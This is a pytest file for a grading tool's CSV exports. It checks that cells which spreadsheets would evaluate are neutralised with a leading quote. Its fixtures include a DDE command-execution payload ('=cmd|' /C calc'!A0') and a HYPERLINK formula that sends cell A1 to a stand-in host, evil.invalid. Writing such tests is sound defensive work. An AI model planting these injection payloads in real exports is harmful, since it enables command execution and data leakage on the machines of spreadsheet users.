"""Every CSV deepgrade writes opens as data: no cell a spreadsheet evaluates."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hostile_corpus import PEOPLE

from deepgrade.grade.csvsafe import FORMULA_START, csv_text, safe_cell
from deepgrade.grade.gradebook import CANVAS_CSV, GRADEBOOK, GRADESCOPE_CSV, write_views
from deepgrade.store import GRADED, KERNEL_FAILED, GradeStore, Person


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("a\r\nb", "a\nb"), ("  =1+1", "'  =1+1"),
    ("\n@x", "'\n@x"),
    ("Ada", "Ada"), ("00123", "00123"), ("a=b", "a=b"), ("", ""), (4.5, "4.5"), (None, ""),
])
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell, expected):
    assert safe_cell(cell) == expected


def test_csv_text_quotes_what_needs_quoting_and_reads_back_cell_for_cell():
    rows = [["name", "sid"], ['=HYPERLINK("x","y")', "a,b\nc"], ["Ada", "1"]]
    back = list(csv.reader(csv_text(rows).splitlines(keepends=True)))
    assert back == [["name", "sid"], ["'=HYPERLINK(\"x\",\"y\")", "a,b\nc"], ["Ada", "1"]]


def _hostile_store(folder: Path) -> None:
    with GradeStore.open(folder, "hw1", create=True) as store:
        store.set_meta("questions", [("softmax", 4.0)])
        store.set_meta("written_questions", [("written_convexity", 2.0)])
        for i, (name, sid, email) in enumerate(PEOPLE):
            key = f"submission_{i}"
            store.add_submission(key, key, [Person(name, sid, email)], None)
            store.record(key, status=GRADED if i else KERNEL_FAILED, bundle_hash="h",
                         version="0", notebook="hw1.ipynb",
                         scores=[("softmax", 3.0, 4.0)], seconds=1.0, work_seconds=0.5,
                         messages=["=cmd|' /C calc'!A0"], results={})
        store.record_written_many([("+1+1", "written_convexity", 1.5)], "scores.csv")


def _cells(path: Path) -> list[str]:
    with path.open(newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_no_written_csv_has_a_cell_that_starts_a_formula(tmp_path):
    _hostile_store(tmp_path)
    with GradeStore.open(tmp_path, "hw1") as store:
        write_views(store, tmp_path, "hw1")
    for name in (GRADEBOOK, GRADESCOPE_CSV, CANVAS_CSV):
        cells = _cells(tmp_path / name)
        assert not [c for c in cells if c.lstrip(" \n").startswith(FORMULA_START)], name
        # What the student wrote is still there for a person to read, after the quote.
        assert "'+1+1" in cells and "'@SUM(1,2)" in cells and "'-2+3" in cells
        assert "'\n=cmd|' /C calc'!A0" in cells  # a carriage return does not split the row
        assert len(list(csv.reader((tmp_path / name).open(newline="")))) == len(PEOPLE) + 1 + (
            name == CANVAS_CSV), name
    assert "'=cmd|' /C calc'!A0" in _cells(tmp_path / GRADEBOOK)  # the message column too
    # The written score filed under the SID "+1+1" still reaches that student's total.
    gradebook = list(csv.DictReader((tmp_path / GRADEBOOK).open(newline="")))
    assert gradebook[0]["written"] == "1.5" and gradebook[0]["total"] == "4.5"


def _libreoffice_cells(csv_path: Path, profile: Path) -> list[tuple[str, str, str]]:
    """(formula, value type, text) of every cell as LibreOffice Calc opens ``csv_path``: with
    formula evaluation on and special numbers detected, the most eager reading it has."""
    soffice = shutil.which("soffice")
    assert soffice, "the spreadsheet check needs LibreOffice: run scripts/system-deps.sh test"
    out = csv_path.parent / "lo"
    # Tokens: comma, double quote, UTF-8, from line 1, no column types, default language,
    # quoted fields not forced to text, detect special numbers, ..., evaluate formulas.
    subprocess.run([soffice, "--headless", "--norestore",
                    f"-env:UserInstallation={profile.as_uri()}",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "fods", "--outdir", str(out), str(csv_path)],
                   check=True, capture_output=True, timeout=120)
    xml = (out / (csv_path.stem + ".fods")).read_text()
    cells = []
    for attrs, body in re.findall(r"<table:table-cell([^>]*)>(.*?)</table:table-cell>", xml, re.S):
        formula = re.search(r'table:formula="([^"]*)"', attrs)
        kind = re.search(r'office:value-type="([^"]*)"', attrs)
        text = re.sub(r"<[^>]+>", "", body).strip()
        cells.append((formula.group(1) if formula else "", kind.group(1) if kind else "", text))
    return cells


def test_libreoffice_opens_every_written_csv_as_data(tmp_path):
    _hostile_store(tmp_path)
    with GradeStore.open(tmp_path, "hw1") as store:
        write_views(store, tmp_path, "hw1")
    for name in (GRADEBOOK, GRADESCOPE_CSV, CANVAS_CSV):
        cells = _libreoffice_cells(tmp_path / name, tmp_path / "profile")
        assert cells, name
        assert [c for c in cells if c[0]] == [], f"{name}: cells LibreOffice evaluated"
        texts = [t for _, _, t in cells]
        assert "&apos;=HYPERLINK(&quot;http://evil.invalid/?&quot;&amp;A1,&quot;click&quot;)" \
            in texts, name  # the name is shown as the student typed it, as text
        # Identifiers that look like arithmetic stay the text they were, not a sum.
        assert "&apos;+1+1" in texts and "&apos;-2+3" in texts, name


def test_the_spreadsheet_check_catches_an_unneutralised_formula(tmp_path):
    raw = tmp_path / "raw.csv"
    raw.write_text('name,sid\n"=HYPERLINK(""http://x/"",""click"")",=1+1\n')
    cells = _libreoffice_cells(raw, tmp_path / "profile")
    assert [c[0] for c in cells if c[0]] == [
        "of:=HYPERLINK(&quot;http://x/&quot;;&quot;click&quot;)", "of:=1+1"]
